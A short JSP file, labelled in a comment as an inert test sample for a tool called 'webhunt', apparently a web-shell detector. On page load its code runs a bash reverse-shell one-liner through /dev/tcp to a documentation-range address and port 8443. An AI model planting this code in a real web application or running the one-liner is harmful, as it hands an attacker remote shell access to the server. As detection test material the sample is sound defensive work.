<%@ page import="java.io.*" %>
<%-- Inert test sample (webhunt): a reverse shell one-liner through bash's /dev/tcp (documentation address). --%>
<%
  try {
    Runtime rt = Runtime.getRuntime();
    rt.exec(new String[]{"/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.77/8443 0>&1"});
  } catch (IOException e) { }
%>
